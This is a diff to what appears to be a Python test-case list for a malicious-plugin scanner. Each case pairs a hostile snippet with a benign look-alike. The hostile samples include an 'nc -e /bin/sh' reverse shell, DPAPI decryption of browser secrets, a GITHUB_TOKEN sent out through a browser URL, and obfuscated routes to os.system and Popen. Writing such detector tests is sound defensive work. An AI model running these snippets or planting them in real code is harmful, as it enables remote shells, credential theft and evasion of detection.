@@ -359,7 +359,9 @@ CASES: list[Case] = [
         "fork then setsid: a daemon detached from the plugin",
         "silent-process",
         C,
-        {"plug/__init__.py": "import os\ndef go():\n    if os.fork() == 0:\n        os.setsid()\n        os.execv('/tmp/x', ['/tmp/x'])\n"},
+        {
+            "plug/__init__.py": "import os\ndef go():\n    if os.fork() == 0:\n        os.setsid()\n        os.execv('/tmp/x', ['/tmp/x'])\n"
+        },
         {},
         {"plug/__init__.py": "import os\ndef group():\n    return os.getpgrp(), os.getsid(0)\n"},
         {},
@@ -368,16 +370,22 @@ CASES: list[Case] = [
         "DPAPI decryption of saved browser secrets",
         "credential-read",
         C,
-        {"plug/__init__.py": "import win32crypt\ndef go(blob):\n    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"},
+        {
+            "plug/__init__.py": "import win32crypt\ndef go(blob):\n    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
+        },
         {},
-        {"plug/__init__.py": "import win32crypt\ndef seal(data):\n    return win32crypt.CryptProtectData(data, 'plug', None, None, None, 0)\n"},
+        {
+            "plug/__init__.py": "import win32crypt\ndef seal(data):\n    return win32crypt.CryptProtectData(data, 'plug', None, None, None, 0)\n"
+        },
         {},
     ),
     (
         "spawnl with the argv spread out (nc -e)",
         "reverse-shell",
         C,
-        {"plug/__init__.py": "import os\ndef go():\n    os.spawnlp(os.P_NOWAIT, 'nc', 'nc', '-e', '/bin/sh', '127.0.0.1', '9')\n"},
+        {
+            "plug/__init__.py": "import os\ndef go():\n    os.spawnlp(os.P_NOWAIT, 'nc', 'nc', '-e', '/bin/sh', '127.0.0.1', '9')\n"
+        },
         {},
         {"plug/__init__.py": "import os\ndef go(path):\n    os.spawnlp(os.P_WAIT, 'gzip', 'gzip', '-k', path)\n"},
         {"subprocess": ["gzip"]},
@@ -386,9 +394,48 @@ CASES: list[Case] = [
         "secret put in a URL opened in the browser",
         "exfiltration",
         C,
-        {"plug/__init__.py": "import os, webbrowser\ndef go():\n    webbrowser.open('https://x.invalid/?k=' + os.environ['GITHUB_TOKEN'])\n"},
+        {
+            "plug/__init__.py": "import os, webbrowser\ndef go():\n    webbrowser.open('https://x.invalid/?k=' + os.environ['GITHUB_TOKEN'])\n"
+        },
         {},
-        {"plug/__init__.py": "import webbrowser\ndef docs(topic):\n    webbrowser.open('https://docs.example.invalid/' + topic)\n"},
+        {
+            "plug/__init__.py": "import webbrowser\ndef docs(topic):\n    webbrowser.open('https://docs.example.invalid/' + topic)\n"
+        },
+        {},
+    ),
+    (
+        "getattr by another name: operator.attrgetter",
+        "obfuscated-call",
+        H,
+        {"plug/__init__.py": "import operator, os\ndef go(c):\n    operator.attrgetter('system')(os)(c)\n"},
+        {},
+        {
+            "plug/__init__.py": "import operator\ndef names(users):\n    return sorted(users, key=operator.attrgetter('name'))\n"
+        },
+        {},
+    ),
+    (
+        "getattr by another name: __getattribute__",
+        "obfuscated-call",
+        H,
+        {"plug/__init__.py": "import os\ndef go(c):\n    os.__getattribute__('system')(c)\n"},
+        {},
+        {
+            "plug/__init__.py": "class P:\n    def __getattr__(self, k):\n        return object.__getattribute__(self, '_d')[k]\n"
+        },
+        {},
+    ),
+    (
+        "walking object's subclasses to reach Popen unnamed",
+        "builtins-access",
+        H,
+        {
+            "plug/__init__.py": "def go():\n    for c in ().__class__.__base__.__subclasses__():\n        if c.__name__ == 'Popen':\n            c(['id'])\n"
+        },
+        {},
+        {
+            "plug/__init__.py": "class Tool:\n    pass\nclass Echo(Tool):\n    pass\ndef tools():\n    return [c.__name__ for c in Tool.__subclasses__()]\n"
+        },
         {},
     ),
 ]
